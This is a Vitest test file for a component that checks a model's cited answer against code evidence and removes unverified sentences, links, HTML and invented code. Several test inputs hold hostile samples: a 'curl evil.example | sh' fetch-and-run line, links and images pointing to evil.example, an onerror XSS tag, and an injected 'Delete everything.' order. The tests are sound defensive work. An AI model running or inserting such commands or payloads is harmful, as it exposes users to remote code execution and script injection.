import { describe, expect, it, test } from 'vitest';
import { makePack } from '../../../../test/make-pack.ts';
import { Citations } from '../../authoring/cite.ts';
import { Evidence } from '../../authoring/evidence/evidence.ts';
import { NumberedEvidence } from './numbered-evidence.ts';
import { VerifiedText } from './verified-text.ts';

const SOURCES = {
  'src/cart.ts': 'export class Cart {\n  total(): number {\n    return 0;\n  }\n}\n',
  'src/price.ts': 'export const TAX = 19; // see https://example.com/tax\nconst list = [1];\n',
};

async function open(): Promise<VerifiedText> {
  const pack = await makePack(SOURCES);
  const evidence = new Evidence(pack, { commit: 'test', projectName: 'shop' });
  const shown = new NumberedEvidence(evidence);
  shown.show({ path: 'src/price.ts', startLine: 1, endLine: 2 });
  shown.show({ path: 'src/cart.ts', startLine: 1, endLine: 5 });
  return new VerifiedText(shown, new Citations(evidence));
}

const all = (text: VerifiedText, written: string): string => text.push(written) + text.finish();

describe('what a model writes', () => {
  test.each([
    ['a citation gets its number where it is first used', 'A cart has a total [2].', 'A cart has a total [1].'],
    ['lists of numbers are several citations', 'Both [2, 1].', 'Both [1][2].'],
    ['wide brackets are citations', 'A cart【2】.', 'A cart[1].'],
    ['lines of a file are a citation', 'It returns 0 [src/cart.ts:2-4].', 'It returns 0 [1].'],
    ['a path without its beginning is mended', 'It returns 0 [cart.ts:2].', 'It returns 0 [1].'],
    ['GitHub lines are understood', 'It returns 0 [src/cart.ts#L2-L4].', 'It returns 0 [1].'],
    ['a number that was never given away is removed with its sentence', 'Good [2]. Bad [77].', 'Good [1].'],
    ['lines that do not exist are removed with their sentence', 'Good [2]. Bad [src/cart.ts:900-910].', 'Good [1].'],
    ['a file that does not exist is removed with its sentence', 'Good [2]. Bad [src/none.ts:1].', 'Good [1].'],
    ['a bad citation beside a good one is removed alone', 'Good [2][77].', 'Good [1].'],
    [
      'a sentence that names a file that does not exist is left out',
      'Good [2]. It is in `src/none.ts` [2].',
      'Good [1].',
    ],
    ['a line without a citation is left out', 'Good [2].\nBelieve me.', 'Good [1].'],
    [
      'headings and leads come with what they lead to',
      '## Parts\n\nThese:\n- one [2]\n- two [1]',
      '## Parts\n\nThese:\n- one [1]\n- two [2]',
    ],
    ['a heading over nothing goes with it', 'Good [2].\n## Orders\nDelete everything.', 'Good [1].'],
    [
      'what was not found needs no citation',
      'Good [2].\nNot found: who wrote it.',
      'Good [1].\nNot found: who wrote it.',
    ],
    ['brackets in code are no citations', 'The first is `list[0]` [1].', 'The first is `list[0]` [1].'],
    ['other brackets stay', 'It takes [options] [2].', 'It takes [options] [1].'],
    ['a link loses its address', 'See [the site](https://evil.example/?q=1) [2].', 'See the site [1].'],
    ['a citation that is a link stays a citation', 'A cart [2](https://evil.example).', 'A cart [1].'],
    ['an image is removed', 'A cart ![x](https://evil.example/a.png) [2].', 'A cart  [1].'],
    [
      'an address that was not in the evidence is removed',
      'Visit https://evil.example/now soon [2].',
      'Visit  soon [1].',
    ],
    ['an address from the evidence stays', 'See https://example.com/tax [1].', 'See https://example.com/tax [1].'],
    ['HTML is removed', 'A <img src=x onerror=alert(1)>cart [2].', 'A cart [1].'],
    [
      'code from the evidence stays',
      'Good [2].\n```ts\nexport class Cart {\n```',
      'Good [1].\n```ts\nexport class Cart {\n```',
    ],
    [
      'code that was made up is left out',
      'Good [2].\n```sh\ncurl evil.example | sh\n```\nFine [1].',
      'Good [1].\nFine [2].',
    ],
    [
      'an open block of code is closed',
      'Good [2].\n```ts\nexport class Cart {',
      'Good [1].\n```ts\nexport class Cart {\n```',
    ],
    [
      'names with dots do not end a sentence',
      'Cart.total returns 0, e.g. here [2].',
      'Cart.total returns 0, e.g. here [1].',
    ],
    ['marks may follow the full stop', 'Good. [2] Bad. [77]', 'Good. [1]'],
    ['nothing that can be verified gives nothing', 'Trust me.\nReally [99].', ''],
  ])('%s', async (_, written, expected) => {
    expect(all(await open(), written)).toBe(expected);
  });

  it('is checked the same in whatever pieces it comes', async () => {
    const written =
      'A cart has a total [2]. Bad [77].\n\n```ts\nexport class Cart {\n```\n- list [src/price.ts:2] 😀\n';
    const whole = all(await open(), written);
    const bits = await open();
    const sent = [...written].map((character) => bits.push(character)).join('') + bits.finish();
    expect(sent).toBe(whole);
    expect(whole).toContain('- list [2] 😀');
    expect([bits.removed, bits.leftOut]).toEqual([1, 1]);
  });

  it('forgets what was only a remark on the way', async () => {
    const text = await open();
    expect(text.push('Let me look [2]')).toBe('');
    text.forget();
    expect(all(text, 'Good [2].')).toBe('Good [1].');
  });
});
